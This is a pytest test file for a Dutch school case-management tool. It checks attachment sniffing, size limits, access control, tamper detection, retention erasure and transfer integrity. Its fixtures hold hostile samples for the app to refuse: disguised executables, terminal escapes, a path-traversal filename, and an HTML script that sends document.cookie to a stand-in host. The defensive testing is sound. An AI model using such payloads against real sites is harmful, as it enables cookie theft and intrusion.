"""Attachments through the real service and a real SQLite file: round trip, refusals, the
journal's hold on the bytes, retention, transfer, and the command line.

Abuse tried here: an executable or an HTML page named ``.pdf``; a "text" file with terminal
escapes; an empty file; /dev/zero; a file one byte over the limit; bytes changed in the
database behind the app's back (triggers dropped); an attachment fetched by a colleague who
may not see the case; a changed byte in a transfer file's attachment.
"""

from __future__ import annotations

import hashlib
import sqlite3

import pytest
from click.testing import CliRunner

from meldcode_tui.cli import main
from meldcode_tui.domain.attachments import media_type_of, sniff
from meldcode_tui.errors import InputError, NotFound
from tests.exports.conftest import build_full_case, make_service
from tests.exports.helpers import BASIS

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 17
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 20 + b"\xff\xd9"
TEXT = "Briefje (fictief): ik wil niet naar huis.\r\nGroetjes\n".encode()


def run(*args, **kw):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False, **kw)


@pytest.mark.parametrize("data,media", [(PDF, "application/pdf"), (PNG, "image/png"), (JPEG, "image/jpeg"),
                                        (TEXT, "text/plain"), ("\ufeffmet BOM\n".encode(), "text/plain")])
def test_type_is_known_by_content(data, media):
    assert media_type_of(data) == media


@pytest.mark.parametrize("data", [
    b"\x7fELF\x02\x01\x01" + b"\x00" * 40,             # an executable
    b"MZ\x90\x00" + b"\x00" * 40,                       # a Windows executable named brief.pdf
    b"%PDF-1.4 but never ends",                         # a truncated PDF
    "tekst met \x1b]0;pwned\x07 erin".encode(),        # terminal escapes
    "tekst met \u202e omgekeerd".encode(),             # a bidi control
    b"\xff\xfe n\x00i\x00e\x00t\x00",                   # UTF-16
    b"\x00\x01\x02binary",
])
def test_other_content_is_refused_whatever_its_name(data):
    with pytest.raises(InputError, match="herkend"):
        sniff(data, max_bytes=1 << 20)


def test_size_bounds():
    with pytest.raises(InputError, match="leeg"):
        sniff(b"", max_bytes=100)
    sniff(b"x" * 100, max_bytes=100)
    with pytest.raises(InputError, match="maximum"):
        sniff(b"x" * 101, max_bytes=100)


@pytest.fixture
def case(tmp_path):
    svc = make_service(tmp_path / "school.sqlite", actor="test-coordinator")
    case_id = build_full_case(svc)
    yield svc, case_id
    svc.store.close()


def test_round_trip_journalled_and_verified(case):
    svc, case_id = case
    state = svc.add_attachment(case_id, PDF, "Brief van de huisarts (fictief)", filename="../../brief.pdf")
    rec = state.attachments[-1]
    assert rec.payload["sha256"] == hashlib.sha256(PDF).hexdigest()
    assert rec.payload["filename"] == "brief.pdf" and rec.payload["media_type"] == "application/pdf"
    before = svc.store.checkpoint()
    got, body = svc.fetch_attachment(case_id, rec.seq)
    assert body == PDF and got.seq == rec.seq
    fetched = svc.journal(case_id)[-1]
    assert fetched.kind == "attachment_fetched" and fetched.payload["target_seq"] == rec.seq
    assert fetched.seq == before[0] + 1
    assert svc.verify().ok


def test_refused_attachments_journal_nothing(case):
    svc, case_id = case
    head = svc.store.checkpoint()
    for data in (b"", b"MZ\x90\x00", PDF):
        with pytest.raises(InputError):
            svc.add_attachment(case_id, data, "Brief", max_bytes=10)  # PDF is too big at 10 bytes
    with pytest.raises(InputError):
        svc.add_attachment(case_id, PDF, "x")  # a title says what it is
    assert svc.store.checkpoint() == head


def test_a_colleague_without_access_cannot_fetch_or_attach(case, tmp_path):
    svc, case_id = case
    seq = svc.add_attachment(case_id, TEXT, "Briefje (fictief)").attachments[-1].seq
    other = make_service(tmp_path / "school.sqlite", actor="bram")
    try:
        with pytest.raises(NotFound):
            other.fetch_attachment(case_id, seq)
        with pytest.raises(NotFound):
            other.add_attachment(case_id, TEXT, "Briefje (fictief)")
    finally:
        other.store.close()


def _raw(db, *sql):
    conn = sqlite3.connect(db)
    try:
        for stmt in sql:
            conn.execute(stmt)
        conn.commit()
    finally:
        conn.close()


def test_bytes_changed_or_removed_behind_the_apps_back_fail_verify(case):
    svc, case_id = case
    seq = svc.add_attachment(case_id, PDF, "Brief van de huisarts (fictief)").attachments[-1].seq
    db = svc.store.path
    with pytest.raises(sqlite3.IntegrityError):  # the database itself refuses
        _raw(db, "UPDATE attachments SET body = x'00'")
    with pytest.raises(sqlite3.IntegrityError):
        _raw(db, "DELETE FROM attachments")
    _raw(db, "DROP TRIGGER attachments_no_update",
         "UPDATE attachments SET body = CAST(replace(CAST(body AS TEXT), 'Catalog', 'Catalof') AS BLOB)")
    result = svc.store.verify()
    assert not result.ok and result.bad_seq == seq and "bijlage" in result.problem
    _raw(db, "DROP TRIGGER attachments_delete_only_erased", "DELETE FROM attachments")
    result = svc.store.verify()
    assert not result.ok and result.bad_seq == seq and "ontbreekt" in result.problem


def test_retention_erases_the_bytes_and_verify_still_passes(case):
    from meldcode_tui.retention import erase_case, finish_erasure

    svc, case_id = case
    marker = b"ZEERUNIEKEBIJLAGEINHOUD"
    seq = svc.add_attachment(case_id, TEXT + marker + b"\n", "Briefje (fictief)").attachments[-1].seq
    svc.record(case_id, "case_closed", {"grounds": "moved_away", "new_school": "OBS Elders (fictief)",
                                        "reason": "Gemeld; de leerling is verhuisd en het dossier is overgedragen."})
    erase_case(svc, case_id, "Bewaartermijn verstreken (test)")
    finish_erasure(svc)
    assert svc.verify().ok
    with pytest.raises(NotFound, match="gewist"):
        svc.fetch_attachment(case_id, seq)
    raw = svc.store.path.read_bytes()
    wal = svc.store.path.with_name(svc.store.path.name + "-wal")
    assert marker not in raw and (not wal.exists() or marker not in wal.read_bytes())


def test_transfer_carries_attachments_bound_by_sha256(case, tmp_path):
    from meldcode_tui.exports import export_case
    from meldcode_tui.exports.importer import import_case
    from meldcode_tui.exports.toml_format import ImportRefused

    svc, case_id = case
    svc.add_attachment(case_id, JPEG, "Foto van het briefje (fictief)")
    data = export_case(svc, case_id, "toml", **BASIS).data
    target = make_service(tmp_path / "andere-school.sqlite", actor="ontvanger")
    try:
        result = import_case(target, data)
        rec = target.get_state(result.case_id).attachments[-1]
        assert target.fetch_attachment(result.case_id, rec.seq)[1] == JPEG
        assert rec.payload["case"] == result.case_id and target.verify().ok
        # One changed character in the attachment's base64 (and nothing else): refused.
        import re

        tampered = re.sub(rb'base64 = "(.)', lambda m: b'base64 = "' + (b"A" if m.group(1) != b"A" else b"B"),
                          data, count=1)
        other = make_service(tmp_path / "derde-school.sqlite", actor="ontvanger")
        with pytest.raises(ImportRefused, match="sha256"):
            import_case(other, tampered)
        other.store.close()
    finally:
        target.store.close()


def test_cli_attach_and_fetch(case, tmp_path):
    svc, case_id = case
    db = svc.store.path
    letter = tmp_path / "brief.pdf"
    letter.write_bytes(PDF)
    result = run("--user", "test-coordinator", "attach", case_id, letter, "--title", "Brief (fictief)", "--db", db)
    assert result.exit_code == 0, result.output
    seq = svc.get_state(case_id).attachments[-1].seq
    assert f"Bijlage #{seq} toegevoegd" in result.stderr
    out = tmp_path / "terug.pdf"
    assert run("--user", "test-coordinator", "fetch", case_id, seq, "-o", out, "--db", db).exit_code == 0
    assert out.read_bytes() == PDF and (out.stat().st_mode & 0o777) == 0o600
    again = run("--user", "test-coordinator", "fetch", case_id, seq, "-o", out, "--db", db)
    assert again.exit_code == 1 and "bestaat al" in again.stderr
    into_db = run("--user", "test-coordinator", "fetch", case_id, seq, "-o", str(db) + "-wal", "--db", db)
    assert into_db.exit_code == 1
    for bad in ("/dev/zero", tmp_path / "bestaat-niet"):
        refused = run("--user", "test-coordinator", "attach", case_id, bad, "--title", "Brief (fictief)", "--db", db)
        assert refused.exit_code == 1 and "onverwachte fout" not in refused.stderr
    config = tmp_path / "config.toml"
    config.write_text("[attachments]\nmax_mb = 1\n")
    big = tmp_path / "groot.txt"
    big.write_bytes(b"a" * (1024 * 1024 + 1))
    too_big = run("--config", config, "--user", "test-coordinator", "attach", case_id, big, "--title",
                  "Groot bestand (fictief)", "--db", db)
    assert too_big.exit_code == 1 and "maximum" in too_big.stderr
    piped = run("--user", "test-coordinator", "attach", case_id, "-", "--title", "Briefje (fictief)", "--db", db,
                input=TEXT)
    assert piped.exit_code == 0, piped.output
    seq = svc.get_state(case_id).attachments[-1].seq
    streamed = run("--user", "test-coordinator", "fetch", case_id, seq, "--db", db)
    assert streamed.stdout_bytes == TEXT


def test_melding_lists_attachments_with_their_hash(case):
    from meldcode_tui.exports import export_case

    svc, case_id = case
    svc.add_attachment(case_id, PDF, "Brief van de huisarts (fictief)")
    text = export_case(svc, case_id, "melding").data.decode()
    section = text.split("### Bijlagen", 1)[1]
    assert "Brief van de huisarts (fictief)" in section and hashlib.sha256(PDF).hexdigest() in section


@pytest.mark.parametrize("page", [
    b"<!DOCTYPE html>\n<html><body>Briefje (fictief)</body></html>\n",
    b"  <html><script>fetch('https://example.invalid/'+document.cookie)</script>",
    b"Gewone tekst\n<iframe src=x></iframe>\n",
    b"<?xml version='1.0'?>\n<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
])
def test_an_html_page_or_svg_is_refused_though_it_is_clean_text(page):
    with pytest.raises(InputError, match="webpagina"):
        sniff(page, max_bytes=1 << 20)


def test_text_that_only_mentions_tags_in_words_is_still_text():
    assert sniff(b"Ze schreef <3 en 'zie bijlage'.\n", max_bytes=1 << 20).media_type == "text/plain"


def test_the_size_message_tells_the_size_from_the_maximum():
    with pytest.raises(InputError) as info:
        sniff(b"x" * 10_500_000, max_bytes=10 * 1024 * 1024)
    assert "10,01 MB groot; het maximum is 10,00 MB" in info.value.message


@pytest.mark.parametrize("title", ["\u200b", "\u0301", "\ufeff\u2060"])
def test_an_invisible_title_is_refused(case, title):
    svc, cid = case
    with pytest.raises(InputError, match="onzichtbare"):
        svc.add_attachment(cid, PDF, title)
